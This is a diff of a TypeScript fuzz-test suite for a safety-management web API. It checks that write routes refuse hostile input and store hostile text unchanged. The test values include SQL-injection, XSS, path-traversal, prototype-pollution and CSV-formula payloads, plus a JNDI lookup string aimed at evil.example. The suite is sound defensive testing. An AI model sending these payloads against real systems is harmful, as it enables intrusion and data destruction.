@@ -63,46 +63,99 @@ const enc = (p: { value: string; raw: boolean }) => (p.raw ? p.value : encodeURI
 
 function pathArb(op: Operation, hostile: boolean): fc.Arbitrary<string> {
   if (!op.pathParams.length) return fc.constant(op.path);
-  return fc.array(hostile ? hostileParam : fc.constant({ value: '00000000-0000-4000-8000-000000000000', raw: false }), { minLength: op.pathParams.length, maxLength: op.pathParams.length }).map((values) => {
-    let i = 0;
-    return op.path.replace(/\{\w+\}/g, () => enc(values[i++]));
-  });
+  return fc
+    .array(hostile ? hostileParam : fc.constant({ value: '00000000-0000-4000-8000-000000000000', raw: false }), {
+      minLength: op.pathParams.length,
+      maxLength: op.pathParams.length,
+    })
+    .map((values) => {
+      let i = 0;
+      return op.path.replace(/\{\w+\}/g, () => enc(values[i++]));
+    });
 }
 
 /** Documented query parameters with hostile values (repeats allowed), sometimes an undocumented or bracketed key. */
 function hostileQueryArb(op: Operation): fc.Arbitrary<string> {
   const names = [...op.queryParams.map((q) => q.name), ...HOSTILE_KEYS.slice(0, 6), 'page[$gt]', 'pageSize[]', 'a[__proto__][polluted]'];
-  return fc.array(fc.tuple(fc.constantFrom(...names), hostileParam), { maxLength: 4 }).map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${enc(v)}`).join('&'));
+  return fc
+    .array(fc.tuple(fc.constantFrom(...names), hostileParam), { maxLength: 4 })
+    .map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${enc(v)}`).join('&'));
 }
 
 /** The documented query parameters with valid values (required ones only). */
 function validQuery(op: Operation): string {
   return op.queryParams
     .filter((q) => q.required)
-    .map((q) => `${q.name}=${encodeURIComponent(String(validValue({ paths: {}, components: { schemas: {} } }, q.schema, () => 'x', () => '00000000-0000-4000-8000-000000000000')))}`)
+    .map(
+      (q) =>
+        `${q.name}=${encodeURIComponent(
+          String(
+            validValue(
+              { paths: {}, components: { schemas: {} } },
+              q.schema,
+              () => 'x',
+              () => '00000000-0000-4000-8000-000000000000',
+            ),
+          ),
+        )}`,
+    )
     .join('&');
 }
 
 const withQuery = (path: string, qs: string) => (qs ? `${path}?${qs}` : path);
 
-const CSV_COLUMNS = ['employeeNo', 'name', 'orgUnitCode', 'email', 'postCode', 'code', 'kind', 'parentCode', 'template', 'date', 'item', 'score', 'total', 'inspector', 'training', 'person', 'attended', 'passed', 'remark'];
+const CSV_COLUMNS = [
+  'employeeNo',
+  'name',
+  'orgUnitCode',
+  'email',
+  'postCode',
+  'code',
+  'kind',
+  'parentCode',
+  'template',
+  'date',
+  'item',
+  'score',
+  'total',
+  'inspector',
+  'training',
+  'person',
+  'attended',
+  'passed',
+  'remark',
+];
 const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
 
 /** File bodies no import or evidence upload may accept. */
 function hostileFileArb(op: Operation): fc.Arbitrary<{ body: string | Buffer; contentType: string; note: string }> {
   const types = op.rawBody!;
   return fc.oneof(
-    fc.tuple(fc.uint8Array({ maxLength: 4096 }), fc.constantFrom(...types)).map(([bytes, contentType]) => ({ body: Buffer.concat([Buffer.from('X'), Buffer.from(bytes)]), contentType, note: 'random bytes' })),
-    fc.uint8Array({ maxLength: 2048 }).map((bytes) => ({ body: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(bytes)]), contentType: types.includes('text/csv') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : types[0], note: 'a corrupt zip (xlsx)' })),
+    fc
+      .tuple(fc.uint8Array({ maxLength: 4096 }), fc.constantFrom(...types))
+      .map(([bytes, contentType]) => ({ body: Buffer.concat([Buffer.from('X'), Buffer.from(bytes)]), contentType, note: 'random bytes' })),
+    fc.uint8Array({ maxLength: 2048 }).map((bytes) => ({
+      body: Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from(bytes)]),
+      contentType: types.includes('text/csv') ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' : types[0],
+      note: 'a corrupt zip (xlsx)',
+    })),
     fc
       .tuple(fc.subarray(CSV_COLUMNS, { minLength: 1 }), fc.array(fc.constantFrom(...HOSTILE_STRINGS), { minLength: 1, maxLength: 40 }))
-      .map(([cols, cells]) => ({ body: `${cols.join(',')}\n${cols.map((_, i) => csvCell(cells[i % cells.length])).join(',')}\n${csvCell(cells[0])}`, contentType: types.includes('text/csv') ? 'text/csv' : types[0], note: 'CSV with hostile cells' })),
+      .map(([cols, cells]) => ({
+        body: `${cols.join(',')}\n${cols.map((_, i) => csvCell(cells[i % cells.length])).join(',')}\n${csvCell(cells[0])}`,
+        contentType: types.includes('text/csv') ? 'text/csv' : types[0],
+        note: 'CSV with hostile cells',
+      })),
     hostileJson.map((text) => ({ body: text, contentType: 'application/json', note: 'JSON instead of a file' })),
     fc.constantFrom(
       { body: '', contentType: types[0], note: 'empty file' },
       { body: '<html><script>alert(1)</script></html>', contentType: 'text/html', note: 'wrong content type' },
       { body: 'a,b\n1,2', contentType: 'multipart/form-data; boundary=x', note: 'multipart instead of a raw file' },
-      { body: Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x00, 0xdc]), contentType: types.includes('text/csv') ? 'text/csv' : types[0], note: 'invalid UTF-8/UTF-16' },
+      {
+        body: Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x00, 0xdc]),
+        contentType: types.includes('text/csv') ? 'text/csv' : types[0],
+        note: 'invalid UTF-8/UTF-16',
+      },
     ),
   );
 }
@@ -113,7 +166,9 @@ function refusedCaseArb(op: Operation): fc.Arbitrary<Case> {
   const body: fc.Arbitrary<{ body?: string | Buffer; contentType?: string; note: string; headers?: Record<string, string> }> = op.rawBody
     ? fc.tuple(hostileFileArb(op), fileName).map(([f, name]) => ({ ...f, headers: { 'x-file-name': name } }))
     : hostileBody(op).map((b) => ({ body: b.text, contentType: b.contentType, note: b.note }));
-  return fc.tuple(pathArb(op, true), hostileQueryArb(op), body).map(([path, qs, b]) => ({ url: withQuery(path, qs), body: b.body, contentType: b.contentType, headers: b.headers, note: b.note }));
+  return fc
+    .tuple(pathArb(op, true), hostileQueryArb(op), body)
+    .map(([path, qs, b]) => ({ url: withQuery(path, qs), body: b.body, contentType: b.contentType, headers: b.headers, note: b.note }));
 }
 
 /** A valid body (as far as the schema says) behind hostile path parameters: the handler looks them up. */
@@ -133,17 +188,25 @@ const REFERENCE = /(orgUnitId|parentId|personId|userId|toUserId|userIds|particip
  * org units, people and users (`pool`) or random ids, so handlers get past their lookups.
  */
 function validShapedCaseArb(doc: OpenApiDoc, op: Operation, pool: readonly string[]): fc.Arbitrary<Case> {
-  return fc.tuple(fc.shuffledSubarray([...HOSTILE_STRINGS], { minLength: 1 }), fc.array(fc.constantFrom(...pool, '00000000-0000-4000-8000-000000000000'), { minLength: 30, maxLength: 30 })).map(([strings, ids]) => {
-    let s = 0;
-    let i = 0;
-    const id = (key = 'id') => (REFERENCE.test(key) || key === 'id' ? ids[i++ % ids.length] : randomUUID());
-    return {
-      url: withQuery(op.path.replace(/\{\w+\}/g, () => encodeURIComponent(id())), validQuery(op)),
-      body: JSON.stringify(validValue(doc, op.jsonBody!, () => strings[s++ % strings.length], id)),
-      contentType: 'application/json',
-      note: 'valid shape, hostile text',
-    };
-  });
+  return fc
+    .tuple(
+      fc.shuffledSubarray([...HOSTILE_STRINGS], { minLength: 1 }),
+      fc.array(fc.constantFrom(...pool, '00000000-0000-4000-8000-000000000000'), { minLength: 30, maxLength: 30 }),
+    )
+    .map(([strings, ids]) => {
+      let s = 0;
+      let i = 0;
+      const id = (key = 'id') => (REFERENCE.test(key) || key === 'id' ? ids[i++ % ids.length] : randomUUID());
+      return {
+        url: withQuery(
+          op.path.replace(/\{\w+\}/g, () => encodeURIComponent(id())),
+          validQuery(op),
+        ),
+        body: JSON.stringify(validValue(doc, op.jsonBody!, () => strings[s++ % strings.length], id)),
+        contentType: 'application/json',
+        note: 'valid shape, hostile text',
+      };
+    });
 }
 
 /**
@@ -151,7 +214,10 @@ function validShapedCaseArb(doc: OpenApiDoc, op: Operation, pool: readonly strin
  * free-text query parameter gets each of them (behind the prefix its pattern demands, if any).
  */
 const SWEEP: readonly { value: string; raw: boolean }[] = [
-  ...['\\', "'", '%', '_', '\u0000', ' ', '../../etc/passwd', "' OR 1=1 --", '💥', 'RiskAssessmentMonthly:', 'AssessmentCycle:monthly:'].map((value) => ({ value, raw: false })),
+  ...['\\', "'", '%', '_', '\u0000', ' ', '../../etc/passwd', "' OR 1=1 --", '💥', 'RiskAssessmentMonthly:', 'AssessmentCycle:monthly:'].map((value) => ({
+    value,
+    raw: false,
+  })),
   ...['%ED%A0%80', '%'].map((value) => ({ value, raw: true })),
 ];
 
@@ -179,9 +245,11 @@ describe('hostile input', () => {
   const call = async (op: Operation, c: Case, user: string) => {
     stats.requests++;
     stats.routes.add(label(op));
-    const r = await send(system.appUrl!, op.method, c.url, { token: tokens[user], body: c.body, contentType: c.contentType, headers: c.headers }).catch((err: Error) => {
-      throw new Error(`${describeCase(op, c)}: no answer (${err.name}: ${err.message})`);
-    });
+    const r = await send(system.appUrl!, op.method, c.url, { token: tokens[user], body: c.body, contentType: c.contentType, headers: c.headers }).catch(
+      (err: Error) => {
+        throw new Error(`${describeCase(op, c)}: no answer (${err.name}: ${err.message})`);
+      },
+    );
     stats.slowest = Math.max(stats.slowest, r.ms);
     return r;
   };
@@ -222,38 +290,53 @@ describe('hostile input', () => {
   it('finds every write route in the live OpenAPI document', () => {
     const writes = ops.filter(isWrite).map(label);
     expect(writes.length).toBeGreaterThanOrEqual(70);
-    expect(writes).toEqual(expect.arrayContaining(['POST /api/hazards', 'POST /api/tasks/{id}/complete', 'POST /api/evidence', 'POST /api/org/import', 'DELETE /api/api-keys/{id}', 'PUT /api/trainings/{id}/results']));
+    expect(writes).toEqual(
+      expect.arrayContaining([
+        'POST /api/hazards',
+        'POST /api/tasks/{id}/complete',
+        'POST /api/evidence',
+        'POST /api/org/import',
+        'DELETE /api/api-keys/{id}',
+        'PUT /api/trainings/{id}/results',
+      ]),
+    );
   });
 
-  it.each(['admin', 'employee'])('as %s: input no route accepts is refused with a JSON 4xx and writes nothing', async (user) => {
-    const failures: string[] = [];
-    for (const op of ops.filter(isWrite)) {
-      const before = await databaseChecksum(system.dataSource);
-      const refused = await check(refusedCaseArb(op), user === 'admin' ? RUNS : Math.ceil(RUNS / 2), async (c) => {
-        const r = await call(op, c, user);
-        const problem = refusalProblem(r);
-        if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
-      });
-      if (refused) failures.push(`${label(op)}: ${refused}`);
-      if (op.pathParams.length) {
-        const path = await check(hostilePathCaseArb(doc, op), Math.ceil(RUNS / 2), async (c) => {
+  it.each(['admin', 'employee'])(
+    'as %s: input no route accepts is refused with a JSON 4xx and writes nothing',
+    async (user) => {
+      const failures: string[] = [];
+      for (const op of ops.filter(isWrite)) {
+        const before = await databaseChecksum(system.dataSource);
+        const refused = await check(refusedCaseArb(op), user === 'admin' ? RUNS : Math.ceil(RUNS / 2), async (c) => {
           const r = await call(op, c, user);
           const problem = refusalProblem(r);
           if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
         });
-        if (path) failures.push(`${label(op)}: ${path}`);
+        if (refused) failures.push(`${label(op)}: ${refused}`);
+        if (op.pathParams.length) {
+          const path = await check(hostilePathCaseArb(doc, op), Math.ceil(RUNS / 2), async (c) => {
+            const r = await call(op, c, user);
+            const problem = refusalProblem(r);
+            if (problem) throw new Error(`${problem}: ${describeCase(op, c, r)}`);
+          });
+          if (path) failures.push(`${label(op)}: ${path}`);
+        }
+        const changed = checksumDiff(before, await databaseChecksum(system.dataSource));
+        if (changed.length) failures.push(`${label(op)}: refused requests changed ${changed.join(', ')}`);
       }
-      const changed = checksumDiff(before, await databaseChecksum(system.dataSource));
-      if (changed.length) failures.push(`${label(op)}: refused requests changed ${changed.join(', ')}`);
-    }
-    expect(failures).toEqual([]);
-    expect(Object.prototype).not.toHaveProperty('polluted');
-    expect(Object.prototype).not.toHaveProperty('isAdmin');
-  }, 300_000);
+      expect(failures).toEqual([]);
+      expect(Object.prototype).not.toHaveProperty('polluted');
+      expect(Object.prototype).not.toHaveProperty('isAdmin');
+    },
+    300_000,
+  );
 
   it('valid-shaped bodies with hostile text reach the handlers: never a 5xx, and a refusal writes nothing', async () => {
     const failures: string[] = [];
-    const pool = (await Promise.all(['org_units', 'people', 'users'].map((t) => system.dataSource.query(`SELECT id FROM ${t}`)))).flat().map((r: { id: string }) => r.id);
+    const pool = (await Promise.all(['org_units', 'people', 'users'].map((t) => system.dataSource.query(`SELECT id FROM ${t}`))))
+      .flat()
+      .map((r: { id: string }) => r.id);
     let current = await databaseChecksum(system.dataSource);
     for (const op of ops.filter((o) => isWrite(o) && o.jsonBody && !WAITS_FOR_WORKER.has(label(o)))) {
       const failure = await check(validShapedCaseArb(doc, op, pool), Math.ceil(RUNS / 3), async (c) => {
@@ -309,7 +392,17 @@ describe('hostile input', () => {
       }
       if (op.method !== 'GET') continue;
       for (const q of op.queryParams.filter((x) => x.schema.type === 'string' && !x.schema.enum && !x.schema.format)) {
-        for (const v of LIKE_SWEEP) cases.push({ op, c: { url: withQuery(op.path.replace(/\{\w+\}/g, '00000000-0000-4000-8000-000000000000'), `${validQuery(op) ? `${validQuery(op)}&` : ''}${q.name}=${enc(v)}`), note: `sweep ?${q.name}` } });
+        for (const v of LIKE_SWEEP)
+          cases.push({
+            op,
+            c: {
+              url: withQuery(
+                op.path.replace(/\{\w+\}/g, '00000000-0000-4000-8000-000000000000'),
+                `${validQuery(op) ? `${validQuery(op)}&` : ''}${q.name}=${enc(v)}`,
+              ),
+              note: `sweep ?${q.name}`,
+            },
+          });
       }
     }
     expect(cases.length).toBeGreaterThan(500);
@@ -336,11 +429,23 @@ describe('hostile input', () => {
         ['/api/risk-assessments/schedules', { area: 'Plant', orgUnitId: plant, paused: true, timeZone }],
       ] as const) {
         const r = await send(system.appUrl!, 'PUT', url, { ...admin, body: JSON.stringify(body) });
-        expect([url, timeZone, r.status, refusalProblem(r), r.body?.error?.details]).toEqual([url, timeZone, 400, null, [expect.objectContaining({ path: 'body.timeZone' })]]);
+        expect([url, timeZone, r.status, refusalProblem(r), r.body?.error?.details]).toEqual([
+          url,
+          timeZone,
+          400,
+          null,
+          [expect.objectContaining({ path: 'body.timeZone' })],
+        ]);
       }
     }
-    const risk = await send(system.appUrl!, 'PUT', '/api/risk-assessments/schedules', { ...admin, body: JSON.stringify({ area: 'Plant', orgUnitId: plant, paused: true, timeZone: 'asia/shanghai' }) });
-    const cycle = await send(system.appUrl!, 'PUT', '/api/assessment-cycles/schedules', { ...admin, body: JSON.stringify({ scopeOrgUnitId: plant, cadence: 'weekly', paused: true, timeZone: 'europe/berlin' }) });
+    const risk = await send(system.appUrl!, 'PUT', '/api/risk-assessments/schedules', {
+      ...admin,
+      body: JSON.stringify({ area: 'Plant', orgUnitId: plant, paused: true, timeZone: 'asia/shanghai' }),
+    });
+    const cycle = await send(system.appUrl!, 'PUT', '/api/assessment-cycles/schedules', {
+      ...admin,
+      body: JSON.stringify({ scopeOrgUnitId: plant, cadence: 'weekly', paused: true, timeZone: 'europe/berlin' }),
+    });
     try {
       // 201 created, or 200 changed (the valid-shaped fuzz may have made the plant's schedules already).
       expect([risk.status === 200 ? 201 : risk.status, (risk.body as unknown as { timeZone: string }).timeZone]).toEqual([201, 'Asia/Shanghai']);
@@ -348,15 +453,33 @@ describe('hostile input', () => {
     } finally {
       for (const r of [risk, cycle]) {
         const id = (r.body as unknown as { scheduleId?: string }).scheduleId;
-        if (id) await send(system.appUrl!, 'DELETE', `/api/${r === risk ? 'risk-assessments' : 'assessment-cycles'}/schedules/${encodeURIComponent(id)}`, { token: tokens.admin });
+        if (id)
+          await send(system.appUrl!, 'DELETE', `/api/${r === risk ? 'risk-assessments' : 'assessment-cycles'}/schedules/${encodeURIComponent(id)}`, {
+            token: tokens.admin,
+          });
       }
     }
   });
 
   it('hostile text is data: stored and answered exactly as sent, the tables intact', async () => {
-    const samples = ["' OR 1=1 --", '"; DROP TABLE users; --', '<script>alert(1)</script>', '../../etc/passwd', '{"$gt": ""}', '${jndi:ldap://evil.example/a}', "=cmd|' /C calc'!A0", '%_\\!', 'a\u0000b', '💥 \u202egnp.exe'];
+    const samples = [
+      "' OR 1=1 --",
+      '"; DROP TABLE users; --',
+      '<script>alert(1)</script>',
+      '../../etc/passwd',
+      '{"$gt": ""}',
+      '${jndi:ldap://evil.example/a}',
+      "=cmd|' /C calc'!A0",
+      '%_\\!',
+      'a\u0000b',
+      '💥 \u202egnp.exe',
+    ];
     for (const [i, name] of samples.entries()) {
-      const created = await send(system.appUrl!, 'POST', '/api/inspections/templates', { token: tokens.admin, contentType: 'application/json', body: JSON.stringify({ code: `SEC-DATA-${i}`, name, items: [{ code: 'I1', title: name, maxScore: 10 }] }) });
+      const created = await send(system.appUrl!, 'POST', '/api/inspections/templates', {
+        token: tokens.admin,
+        contentType: 'application/json',
+        body: JSON.stringify({ code: `SEC-DATA-${i}`, name, items: [{ code: 'I1', title: name, maxScore: 10 }] }),
+      });
       expect(created.status).toBe(201);
       const read = await send(system.appUrl!, 'GET', `/api/inspections/templates/${(created.body as unknown as { id: string }).id}`, { token: tokens.admin });
       expect(read.body).toMatchObject({ name, items: [{ title: name }] });
